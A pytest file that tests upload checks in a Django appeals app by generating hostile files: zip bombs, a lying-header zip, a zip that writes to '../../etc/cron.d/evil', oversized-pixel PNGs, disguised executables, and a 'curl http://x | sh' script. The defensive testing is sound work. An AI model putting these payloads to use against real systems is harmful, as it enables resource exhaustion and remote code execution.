"""Upload content checks (issue 9, item 14) through the real upload paths: an enterprise attaching files
to an appeal on the page, and an Excel import. Every file here is a real generated one: a zip bomb, a
PNG declaring 20000×20000 pixels, a truncated JPEG, an ELF binary renamed, a valid docx/xlsx."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook
from PIL import Image

from wuyou.appeals.models import Appeal, Attachment
from wuyou.core import excel

pytestmark = pytest.mark.django_db

OOXML_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def xlsx_bytes(rows=(("日期", "类型", "名称"), ("2027-01-01", "holiday", "元旦"))) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def docx_bytes() -> bytes:
    """A minimal valid Word document: the OOXML package parts Word itself writes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        zf.writestr("_rels/.rels", "<Relationships/>")
        zf.writestr("word/document.xml", "<w:document><w:body><w:p>说明</w:p></w:body></w:document>")
    return out.getvalue()


def zip_bomb(prefix: str = "xl/", megabytes: int = 200) -> bytes:
    """A valid OOXML-looking package with one member of `megabytes` MB of zeros (about 200 KB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        with zf.open(f"{prefix}sheet.xml", "w", force_zip64=True) as member:
            block = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(block)
    return out.getvalue()


def lying_zip() -> bytes:
    """20 MB of zeros whose headers say 1,000 bytes: the declared sizes and ratio look harmless."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        zf.writestr("xl/workbook.xml", b"\x00" * (20 * 1024 * 1024))
    data = bytearray(out.getvalue())
    real = struct.pack("<I", 20 * 1024 * 1024)
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        start = 0
        while (start := data.find(sig, start)) != -1:
            if data[start + offset : start + offset + 4] == real:
                data[start + offset : start + offset + 4] = struct.pack("<I", 1000)
            start += 4
    return bytes(data)


def many_members(n: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        for i in range(n):
            zf.writestr(f"xl/part{i}.xml", "")
    return out.getvalue()


def traversal_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("../../etc/cron.d/evil", "* * * * * root sh")
    return out.getvalue()


def no_marker_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width×height pixels in its IHDR and carries almost no data: the file is tiny,
    decoding it would allocate width×height bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    idat = zlib.compress(b"\x00" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def image_bytes(fmt: str, size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def post_appeal(p, *files):
    data = {
        "category": "help",
        "urgency": "normal",
        "title": "园区频繁停电",
        "content": "栗雨工业园本周停电三次，生产线受损。",
        "contact_name": "张经理",
        "contact_phone": "13812341234",
        "files": [SimpleUploadedFile(name, content) for name, content in files],
    }
    return p.client(p.ent_user).post(reverse("appeal_new"), data)


def assert_refused(p, media, resp, *words):
    assert resp.status_code == 200  # the form again, with the reason
    page = resp.content.decode()
    for word in words:
        assert word in page
    assert not Appeal.objects.exists() and not Attachment.objects.exists()
    assert not [f for f in media.rglob("*") if f.is_file()]


def test_valid_office_files_images_and_text_are_accepted(p, media):
    resp = post_appeal(
        p,
        ("台账.xlsx", xlsx_bytes()),
        ("说明.docx", docx_bytes()),
        ("现场.png", image_bytes("PNG")),
        ("现场.jpg", image_bytes("JPEG")),
        ("记录.txt", "停电记录：周一、周三、周五\n".encode("gb18030")),
    )
    assert resp.status_code == 302
    names = set(Attachment.objects.values_list("name", flat=True))
    assert names == {"台账.xlsx", "说明.docx", "现场.png", "现场.jpg", "记录.txt"}


@pytest.mark.parametrize(
    "name,content,words",
    [
        ("报表.xlsx", zip_bomb("xl/"), ["附件「报表.xlsx」", "压缩炸弹"]),
        ("报告.docx", zip_bomb("word/"), ["附件「报告.docx」", "压缩炸弹"]),
        ("报表.xlsx", lying_zip(), ["附件「报表.xlsx」", "已损坏"]),
        ("报表.xlsx", many_members(2001), ["超过 2000 个"]),
        ("报表.xlsx", traversal_zip(), ["文档以外位置"]),
        ("报表.xlsx", no_marker_zip(), ["[Content_Types].xml"]),
        ("报表.xlsx", b"PK\x03\x04 not really a zip", ["已损坏或不是有效的 Office 文档"]),
        ("报告.docx", xlsx_bytes(), ["内容与扩展名不符"]),  # a workbook renamed .docx
    ],
    ids=["bomb-xlsx", "bomb-docx", "lying-header", "members", "traversal", "no-marker", "not-zip", "renamed"],
)
def test_unsafe_office_files_are_refused(p, media, name, content, words):
    assert_refused(p, media, post_appeal(p, ("照片.png", image_bytes("PNG")), (name, content)), *words)


def test_whole_archive_ratio_is_checked_even_when_each_member_is_small(p, media, settings):
    # 30 members of 900 KB of zeros: each under the per-member floor, the whole ~1000:1.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", OOXML_TYPES)
        for i in range(30):
            zf.writestr(f"xl/part{i}.xml", b"\x00" * (900 * 1024))
    assert_refused(p, media, post_appeal(p, ("报表.xlsx", out.getvalue())), "压缩比异常")


@pytest.mark.parametrize(
    "name,content,words",
    [
        ("大图.png", png_header_only(20000, 20000), ["附件「大图.png」", "图片尺寸过大"]),
        # 64 Mpx: below Pillow's own process-wide warning (89 Mpx), above our 50 Mpx per-call limit.
        ("大图.png", png_header_only(8000, 8000), ["图片尺寸过大（8000×8000）", "50 百万像素"]),
        ("截断.jpg", image_bytes("JPEG", (400, 300))[:600], ["附件「截断.jpg」", "不是可以打开的图片"]),
        ("伪装.jpg", image_bytes("PNG"), ["内容与扩展名不符"]),
        ("伪装.png", b"\x89PNG\r\n\x1a\n" + b"0" * 100, ["不是可以打开的图片"]),
    ],
    ids=["20000x20000", "64mpx", "truncated-jpeg", "png-as-jpg", "magic-only"],
)
def test_images_are_decoded_before_acceptance(p, media, name, content, words):
    assert_refused(p, media, post_appeal(p, (name, content)), *words)


def test_a_phone_photo_with_a_multi_picture_segment_is_a_jpeg(p, media):
    # Ultra HDR and gain-map photos carry a second picture (MPF): Pillow reads them as MPO.
    out = io.BytesIO()
    first, second = Image.new("RGB", (64, 48), (200, 30, 30)), Image.new("RGB", (32, 24), (30, 30, 200))
    first.save(out, "MPO", save_all=True, append_images=[second])
    assert post_appeal(p, ("现场.jpg", out.getvalue())).status_code == 302
    assert Attachment.objects.filter(name="现场.jpg").exists()


def test_pixel_limit_is_the_setting(p, media, settings):
    settings.ATTACHMENT_MAX_PIXELS = 1000
    assert_refused(p, media, post_appeal(p, ("现场.png", image_bytes("PNG", (40, 30)))), "图片尺寸过大")


@pytest.mark.parametrize(
    "name,content",
    [
        ("合同.pdf", ELF),
        ("说明.txt", ELF),
        ("照片.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100),  # Mach-O 64-bit
        ("文档.doc", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 100),  # universal binary
        ("说明.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100),  # PE
        ("说明.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
        ("说明.txt", b"\xef\xbb\xbf#!/usr/bin/env python\n"),
    ],
    ids=["elf-pdf", "elf-txt", "macho-png", "fat-doc", "pe-txt", "script", "script-bom"],
)
def test_executables_are_refused_by_content_whatever_the_name(p, media, name, content):
    assert_refused(p, media, post_appeal(p, (name, content)), f"附件「{name}」是可执行程序或脚本")


def test_binary_content_in_a_text_file_is_refused(p, media):
    assert_refused(
        p, media, post_appeal(p, ("记录.txt", b"line one\x00\x00\x01\x02 binary")), "不是有效的文本文件"
    )


def test_text_that_merely_starts_with_mz_is_text(p, media):
    assert post_appeal(p, ("记录.txt", "MZ 公司停电记录\n".encode())).status_code == 302
    assert Attachment.objects.get().name == "记录.txt"


def test_api_error_codes(p):
    from wuyou.core.errors import InvalidInput
    from wuyou.core.files import check_file

    for name, content, code in (
        ("a.exe", b"x", "attachment_type"),
        ("a.xlsx", zip_bomb(megabytes=101), "attachment_archive"),
        ("a.png", png_header_only(20000, 20000), "attachment_image"),
        ("a.pdf", ELF, "attachment_executable"),
        ("a.txt", b"\x00\x01", "attachment_type"),
    ):
        with pytest.raises(InvalidInput) as info:
            check_file(SimpleUploadedFile(name, content))
        assert info.value.code == code, name


# ---------------------------------------------------------------- Excel imports


def test_excel_import_refuses_a_zip_bomb_before_openpyxl_opens_it(p):
    resp = p.client(p.center).post(
        reverse("calendar_import"), {"year": 2027, "file": SimpleUploadedFile("2027.xlsx", zip_bomb())}
    )
    assert resp.status_code == 200 and "压缩炸弹" in resp.content.decode()
    from wuyou.workdays.models import CalendarDay

    assert not CalendarDay.objects.filter(date__year=2027).exists()


def test_excel_kernel_refuses_archive_bombs_and_still_reads_good_files():
    sheet = excel.Sheet("日历", [excel.Column("date", "日期", required=True), excel.Column("kind", "类型")])
    with pytest.raises(excel.ExcelErrors) as info:
        excel.read(zip_bomb(), sheet)
    assert info.value.code == "bad_file" and "压缩炸弹" in info.value.message
    with pytest.raises(excel.ExcelErrors) as info:
        excel.read(lying_zip(), sheet)
    assert info.value.code == "bad_file" and "损坏" in info.value.message
    assert [r["kind"] for r in excel.read(xlsx_bytes(), sheet)] == ["holiday"]
